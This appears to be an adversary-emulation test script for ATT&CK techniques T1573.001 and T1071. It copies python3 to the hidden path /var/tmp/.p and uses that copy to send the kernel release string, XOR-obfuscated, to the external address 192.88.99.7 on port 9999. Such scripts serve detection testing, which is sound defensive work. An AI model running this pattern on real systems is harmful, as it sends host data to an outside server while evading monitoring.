#!/usr/bin/env python3
# title: A program of /var/tmp speaks encrypted to its server
# technique: T1573.001 T1071
# needs: python3

import shutil, subprocess
shutil.copy("/usr/bin/python3", "/var/tmp/.p")
subprocess.call(["/var/tmp/.p", "-c", "import socket,os; s=socket.create_connection(('192.88.99.7',9999)); s.sendall(bytes(b^7 for b in os.uname().release.encode()))"])
